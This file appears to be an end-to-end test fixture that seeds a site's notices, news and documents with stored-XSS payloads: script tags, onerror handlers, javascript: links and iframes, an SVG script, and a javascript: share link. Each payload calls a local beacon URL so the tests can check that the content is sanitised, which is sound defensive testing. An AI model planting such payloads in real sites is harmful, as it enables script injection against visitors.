import Database from 'better-sqlite3';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { calendarFreeSeedDir, startTestServer, type TestServer } from './test-server';

/** Where the hostile payloads try to report to; nothing listens there, the tests only watch for the request. */
export const BEACON = 'http://127.0.0.1:9/beacon';

const payload = (tag: string) =>
  `<p>Texto ${tag} legítimo.</p>` +
  `<script>console.log('PWNED-${tag}-script');alert('${tag}');fetch('${BEACON}?${tag}-script')</script>` +
  `<img src="x" onerror="console.log('PWNED-${tag}-img');fetch('${BEACON}?${tag}-img')">` +
  `<a href="javascript:fetch('${BEACON}?${tag}-link')">ligação ${tag}</a>` +
  `<iframe src="javascript:fetch('${BEACON}?${tag}-frame')"></iframe>` +
  `<p style="position:fixed;inset:0;background:red">estilo ${tag}</p>` +
  `<svg><script>fetch('${BEACON}?${tag}-svg')</script></svg>`;

export const hostile = {
  noticeName: 'aviso-hostil',
  noticeTitle: 'Aviso com conteúdo hostil',
  newsName: 'noticia-hostil',
  newsTitle: 'Notícia com conteúdo hostil',
  documentTitle: `<img src=x onerror="fetch('${BEACON}?doc')">Regulamento <script>alert(1)</script>hostil`,
  extraDocuments: 30,
};

type Localized = { pt: string; en: string };
const both = (text: string): Localized => ({ pt: text, en: text });

/** A copy of the demo seed (calendar-free, as every date-independent test's) plus hostile records (never in server/seed) and extra documents (>= 8 pages). */
function hostileSeed(dir: string): string {
  const seedDir = join(dir, 'seed');
  cpSync(calendarFreeSeedDir(), seedDir, { recursive: true });
  const edit = <T>(file: string, change: (records: T[]) => T[]) => {
    const path = join(seedDir, file);
    writeFileSync(path, JSON.stringify(change(JSON.parse(readFileSync(path, 'utf8')) as T[])));
  };
  edit<Record<string, unknown>>('notices.json', (records) => [
    ...records,
    {
      post_name: hostile.noticeName,
      post_title: both(hostile.noticeTitle),
      docaviso_descricao: both(payload('aviso')),
      docaviso_datavigor: '2099-01-01',
      publicado: true,
      docaviso_ficheiros: [],
    },
  ]);
  edit<Record<string, unknown>>('news.json', (records) => [
    ...records,
    {
      noticia_name: hostile.newsName,
      noticia_titulo: both(hostile.newsTitle),
      noticia_imagem: 'noticia-01.jpg',
      noticia_imagemsecundaria: '',
      noticia_imagemsecundariaEN: '',
      noticia_data_publicacao: '2099-01-01',
      noticia_corpo: both(payload('noticia')),
      // The seed refuses a non-http share link; the fixture writes one into the database after seeding.
      noticia_twitter: '',
      noticia_facebook: '',
      noticia_linkedin: '',
      publicado: true,
      views: 1,
    },
  ]);
  edit<Record<string, unknown>>('documents.json', (records) => {
    const template = records[0] ?? {};
    const extra = Array.from({ length: hostile.extraDocuments }, (_, i) => ({
      ...template,
      doc_ano: 2023,
      doc_titulo: both(`Arquivo adicional ${String(i + 1).padStart(2, '0')}`),
      doc_tipo: 'saslegislacao',
    }));
    return [
      ...records,
      { ...template, doc_ano: 2026, doc_titulo: both(hostile.documentTitle), doc_tipo: 'sasiig' },
      ...extra,
    ];
  });
  return seedDir;
}

/**
 * The real server on a throwaway SQLite file whose database also holds the hostile records above (and a share link
 * the seed itself refuses, written after seeding). The caller closes it and removes `dir`.
 */
export async function startHostileServer(
  distDir: string,
): Promise<TestServer & { databasePath: string; dir: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'sasuma-e2e-hostile-'));
  const databasePath = join(dir, 'test.db');
  const server = await startTestServer({ port: 0, databasePath, distDir, seedDir: hostileSeed(dir) });
  const db = new Database(databasePath);
  db.prepare('UPDATE news SET twitter = ? WHERE name = ?').run(
    `javascript:fetch('${BEACON}?share')`,
    hostile.newsName,
  );
  db.close();
  return Object.assign(server, { databasePath, dir });
}
